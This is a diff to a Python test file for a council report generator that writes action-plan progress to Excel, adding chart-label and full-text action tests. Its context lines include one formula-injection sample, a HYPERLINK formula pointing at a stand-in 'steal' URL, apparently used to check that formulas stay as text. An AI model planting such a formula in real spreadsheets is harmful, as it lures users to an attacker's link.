@@ -11,6 +11,7 @@ import re
 import shutil
 import subprocess
 import zipfile
+from xml.etree import ElementTree
 
 import openpyxl
 import pytest
@@ -21,6 +22,7 @@ from factories import (
     action,
     digital_inclusion_plan,
     make_context,
+    with_progress,
 )
 
 from wfs_reports.cli import main
@@ -29,6 +31,7 @@ from wfs_reports.domain.trend import Trend
 from wfs_reports.render.xlsx import render_xlsx
 from wfs_reports.report.view import Changes
 
+CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
 FORMULA_TEXTS = [
     '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
     "=1+1",
@@ -213,6 +216,25 @@ def test_no_exceptions_says_so():
     assert sheet["A2"].value == "No exceptions."
 
 
+def test_the_charts_labels_are_the_counts_alone():
+    """Each part of a column is labelled with its count only (nothing for nought):
+    a label that also named the report and the RAG overlapped the next one in
+    LibreOffice."""
+    data = render_xlsx(with_progress(make_context())).data
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        chart = ElementTree.fromstring(archive.read("xl/charts/chart1.xml"))
+    labels = chart.findall(f".//{{{CHART}}}ser/{{{CHART}}}dLbls")
+    assert len(labels) == 3  # one per RAG
+    for label in labels:
+        shown = {child.tag.split("}")[1]: child.get("val") for child in label
+                 if child.tag.split("}")[1].startswith("show")}
+        assert shown["showVal"] == "1"
+        assert {k: v for k, v in shown.items() if k != "showVal"} == {
+            "showLegendKey": "0", "showCatName": "0", "showSerName": "0", "showPercent": "0",
+            "showBubbleSize": "0", "showLeaderLines": "0"}
+        assert label.find(f"{{{CHART}}}numFmt").get("formatCode") == "0;-0;;"
+
+
 def test_same_context_gives_the_same_bytes(rendered):
     context, result = rendered
     again = render_xlsx(context).data
@@ -359,6 +381,10 @@ def test_libreoffice_calc_opens_it_and_keeps_formula_text_as_text(make_workbook,
 # ---------------------------------------------------------------- a working copy, two quarters
 
 
+VOLUNTEERS = ("Train library volunteers as digital champions, so that every branch library "
+              "has someone on hand on Saturdays to help residents get online")
+
+
 def two_quarters_of_digital_inclusion(tmp_path):
     """The Digital Inclusion plan at 30 June 2024, then at 30 September 2024 with the
     laptops lent, the Wi-Fi slipped a quarter, an override and a not-applicable action;
@@ -376,7 +402,7 @@ def two_quarters_of_digital_inclusion(tmp_path):
                    "Completed", "All 200 lent"),
             action(2, "Run digital champion training for housing officers",
                    "Housing Training Lead", "Q1 2024-25", "Completed", "42 officers trained"),
-            action(2, "Train library volunteers as digital champions", "Volunteer Lead",
+            action(2, VOLUNTEERS, "Volunteer Lead",
                    "Q4 2024-25", "In progress", override="Missed target requires action",
                    reason="The trainer left in August", updated="20/09/2024"),
             action(2, "Train mobile library staff", "", "N/A", "Not applicable"),
@@ -401,7 +427,8 @@ def test_a_later_quarter_has_the_changes_since_the_last_report(tmp_path):
     assert ("Completed since the last report", "Lend 200 refurbished laptops") in listed
     assert ("Slipped: due date moved later",
             "Install public Wi-Fi in the six branch libraries") in listed
-    assert ("New actions", "Train library volunteers as digital champions") in listed
+    assert ("New actions", VOLUNTEERS) in listed
+    assert not any(action.endswith("…") for _change, action in listed)  # whole, not cut
     slipped = next(r for r in rows_of(changes) if r["Change"].startswith("Slipped"))
     assert "30 September 2024" in slipped["What changed"]  # Q2 2024-25 ...
     assert "31 December 2024" in slipped["What changed"]  # ... moved to Q3 2024-25
@@ -420,7 +447,7 @@ def test_the_first_report_has_no_changes_sheet(tmp_path):
 def test_the_working_copy_keeps_the_officers_columns_and_the_recommendation(tmp_path):
     written, _plan = two_quarters_of_digital_inclusion(tmp_path)
     actions = {r["Action"]: r for r in rows_of(workbook_of(written.read_bytes())["Actions"])}
-    volunteers = actions["Train library volunteers as digital champions"]
+    volunteers = actions[VOLUNTEERS]
     assert volunteers["RAG Override"] == "Missed target requires action"
     assert volunteers["Override Reason"] == "The trainer left in August"
     assert volunteers["Last Updated"].date() == dt.date(2024, 9, 20)
